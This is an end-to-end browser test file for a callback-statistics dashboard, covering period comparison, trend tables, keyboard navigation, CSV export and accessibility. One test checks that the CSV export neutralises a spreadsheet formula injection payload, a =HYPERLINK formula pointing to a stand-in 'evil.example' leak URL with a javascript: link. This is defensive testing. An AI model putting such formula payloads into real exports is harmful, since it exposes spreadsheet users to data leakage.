import { readFile } from 'node:fs/promises';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
import { addDays, todayIn } from '../../lib/date-range';
import { violations } from './support/axe';
import { launchBrowser, signedInContext } from './support/browser';
import { E2E } from './support/context';
import { resetSimulator, setFault } from './support/simulator-control';

/** Comparison, trend, stepping through time and the CSV download, in a real Chromium. */
const { appUrl, simulatorOrigin } = inject('e2e');
let browser: Browser;
let context: BrowserContext;
let page: Page;

beforeAll(async () => {
  browser = await launchBrowser();
  context = await signedInContext(browser, appUrl);
  page = await context.newPage();
});
afterAll(() => browser?.close());
afterEach(() => resetSimulator(simulatorOrigin));

const TWO_WEEKS = '?start_date=2026-01-05&end_date=2026-01-18';

/** The key handler is React's: wait until the page is interactive (the lazy chart is drawn then). */
async function hydrated(): Promise<void> {
  await page.locator('.chart canvas').first().waitFor({ state: 'visible', timeout: 10_000 });
}

function card(label: string) {
  return page.locator('.kpi', { has: page.locator('dt', { hasText: new RegExp(`^${label}$`) }) });
}

describe('comparison', () => {
  it('shows each card’s change with an arrow, words and the earlier value, against the stated period', async () => {
    await page.goto(`${appUrl}/${TWO_WEEKS}`);
    const api = await (await context.request.get(`${appUrl}/api/stats${TWO_WEEKS}&compare=previous`)).json();
    await page.getByText('vs Dec 22, 2025 – Jan 4, 2026 (the previous 14 days)').waitFor();

    const now = api.totals.received;
    const then = api.comparison.totals.received;
    const change = (now - then) / then;
    const direction = change > 0 ? 'up' : 'down';
    const magnitude = `${(Math.abs(change) * 100).toFixed(1)}%`;
    const received = card('Received').locator('.kpi-change');
    expect(await received.getAttribute('data-direction')).toBe(direction);
    expect(await received.getAttribute('class')).toContain(direction === 'up' ? 'tone-good' : 'tone-bad');
    expect(await received.locator('.visually-hidden').textContent()).toBe(`${direction} ${magnitude} from ${then.toLocaleString('en-US')}`);
    expect(await received.locator('.kpi-arrow').textContent()).toBe(direction === 'up' ? '▲' : '▼');

    // Unmatched going up is bad news: the colour follows the meaning, not the arrow.
    const unmatched = card('Unmatched').locator('.kpi-change');
    const unmatchedDirection = await unmatched.getAttribute('data-direction');
    if (unmatchedDirection === 'up') expect(await unmatched.getAttribute('class')).toContain('tone-bad');
    if (unmatchedDirection === 'down') expect(await unmatched.getAttribute('class')).toContain('tone-good');

    // Rates move in percentage points.
    const points = (api.comparison.change.answer_rate as number).toFixed(1).replace(/^(\d)/, '+$1');
    expect(await card('Answer rate').locator('.kpi-change strong').textContent()).toBe(`${points === '+0.0' ? '0.0' : points} pp`);
  });

  it('compares with the same dates a year earlier, or not at all', async () => {
    await page.goto(`${appUrl}/${TWO_WEEKS}`);
    await page.getByRole('navigation', { name: 'Compare with' }).getByRole('link', { name: 'Same dates last year' }).click();
    await page.waitForURL(`${appUrl}/${TWO_WEEKS}&compare=year`);
    await page.getByText('vs Jan 5 – 18, 2025 (the same dates a year earlier)').waitFor();
    await page.getByRole('navigation', { name: 'Compare with' }).getByRole('link', { name: 'No comparison' }).click();
    await page.waitForURL(`${appUrl}/${TWO_WEEKS}&compare=off`);
    await card('Received').locator('.kpi-value').waitFor();
    expect(await page.locator('.kpi-change').count()).toBe(0);
  });
});

describe('the trend', () => {
  it('draws the chart and lists every bucket in its table; the interval switch changes the buckets', async () => {
    const query = '?start_date=2026-01-05&end_date=2026-02-01&interval=week';
    await page.goto(`${appUrl}/${query}`);
    const series = await (await context.request.get(`${appUrl}/api/stats/series${query}`)).json();
    await page.locator('.trend-chart canvas').waitFor({ state: 'visible', timeout: 10_000 });
    await page.getByText('Show the chart as a table').click();
    const rows = page.locator('.trend-table tbody tr');
    expect(await rows.count()).toBe(4);
    // Intl puts thin spaces around the dash of a date range.
    expect((await rows.first().locator('th').textContent())?.replace(/\s/g, ' ')).toBe('Jan 5 – 11, 2026');
    expect(await rows.first().locator('td').first().textContent()).toBe(series.buckets[0].totals.received.toLocaleString('en-US'));
    // Each source over time, as a labelled sparkline.
    expect(await page.locator('.source-trend-table svg[role=img] title').count()).toBeGreaterThan(0);

    await page.getByRole('navigation', { name: 'Show per' }).getByRole('link', { name: 'Day' }).click();
    await page.waitForURL(`${appUrl}/?start_date=2026-01-05&end_date=2026-02-01&interval=day`);
    await page.getByRole('heading', { name: 'Received and answered per day' }).waitFor();
    await page.getByText('Show the chart as a table').click();
    expect(await page.locator('.trend-table tbody tr').count()).toBe(28);
  });

  it('refuses an interval too fine for the range inline, without an error page', async () => {
    const response = await page.goto(`${appUrl}/?start_date=2026-01-01&end_date=2026-06-30&interval=day`);
    expect(response?.status()).toBe(200);
    await page
      .getByRole('alert')
      .getByText(/covers at most 92 days/)
      .waitFor();
    expect(await page.getByLabel('From').inputValue()).toBe('2026-01-01');
  });
});

describe('stepping through time', () => {
  it('steps with the links and with the ← and → keys, keeping the comparison and interval', async () => {
    await page.goto(`${appUrl}/${TWO_WEEKS}&compare=year`);
    await hydrated();
    await page.keyboard.press('ArrowLeft');
    await page.waitForURL(`${appUrl}/?start_date=2025-12-22&end_date=2026-01-04&compare=year`);
    await hydrated();
    await page.keyboard.press('ArrowRight');
    await page.waitForURL(`${appUrl}/${TWO_WEEKS}&compare=year`);
    await page
      .locator('.period-steps')
      .getByRole('link', { name: /^Previous period: Dec 22, 2025\s–\sJan 4, 2026$/ })
      .click();
    await page.waitForURL(`${appUrl}/?start_date=2025-12-22&end_date=2026-01-04&compare=year`);
    await page
      .locator('.period-steps')
      .getByRole('link', { name: /^Next period: Jan 5\s–\s18, 2026$/ })
      .click();
    await page.waitForURL(`${appUrl}/${TWO_WEEKS}&compare=year`);
  });

  it('leaves the arrows to a form field being typed in, and has no next period after today', async () => {
    await page.goto(`${appUrl}/?range=7d`);
    await hydrated();
    await page.getByLabel('From').focus();
    await page.keyboard.press('ArrowLeft');
    await page.waitForTimeout(300);
    expect(page.url()).toBe(`${appUrl}/?range=7d`);
    const next = page.locator('.period-steps [aria-disabled=true]');
    expect(await next.textContent()).toBe('Next period →');
    await page.locator('body').click({ position: { x: 5, y: 5 } });
    await page.keyboard.press('ArrowRight');
    await page.waitForTimeout(300);
    expect(page.url()).toBe(`${appUrl}/?range=7d`);
    const today = todayIn(E2E.timeZone, new Date());
    await page.keyboard.press('ArrowLeft');
    await page.waitForURL(`${appUrl}/?start_date=${addDays(today, -13)}&end_date=${addDays(today, -7)}`);
  });
});

describe('Download CSV', () => {
  it('downloads the view with its totals, sources and one row per bucket', async () => {
    await page.goto(`${appUrl}/${TWO_WEEKS}&interval=week`);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Download CSV' }).click()]);
    expect(download.suggestedFilename()).toBe('callbacks_2026-01-05_2026-01-18.csv');
    const bytes = await readFile((await download.path())!);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.subarray(3).toString('utf8').split('\r\n');
    const api = await (await context.request.get(`${appUrl}/api/stats${TWO_WEEKS}&compare=previous`)).json();
    expect(lines).toContain('Period start,2026-01-05');
    expect(lines.find((line) => line.startsWith('Received,'))).toMatch(
      new RegExp(`^Received,${api.totals.received},${api.comparison.totals.received},`),
    );
    expect(lines.filter((line) => /^2026-01-(05|12),2026-01-(11|18),no,\d+/.test(line))).toHaveLength(2);
    for (const source of api.sources) expect(lines.some((line) => line.startsWith(`${source.id},`))).toBe(true);
  });

  it('neutralises a source name that is a spreadsheet formula', async () => {
    await setFault(simulatorOrigin, { mode: 'hostile-names' });
    // A range nothing else asks for, so the names come from the faulty simulator, not the cache.
    await page.goto(`${appUrl}/?start_date=2025-05-05&end_date=2025-05-11`);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Download CSV' }).click()]);
    const text = (await readFile((await download.path())!)).toString('utf8');
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak="",""javascript:alert(1)"")"`);
    expect(text).not.toMatch(/(^|[,\r\n])"?=HYPERLINK/);
  });
});

describe.each(['light', 'dark'] as const)('accessibility of the trend in the %s scheme', (colorScheme) => {
  it('has no WCAG A/AA violations with comparison, trend table and sparklines', async () => {
    const signedIn = await signedInContext(browser, appUrl);
    const view = await signedIn.newPage();
    await view.emulateMedia({ colorScheme });
    await view.goto(`${appUrl}/?start_date=2026-01-05&end_date=2026-03-29&interval=week`);
    await view.locator('.trend-chart canvas').waitFor({ state: 'visible', timeout: 10_000 });
    await view.getByText('Show the chart as a table').click();
    await view.locator('.source-table').waitFor();
    expect(await violations(view)).toEqual([]);
    await signedIn.close();
  });
});
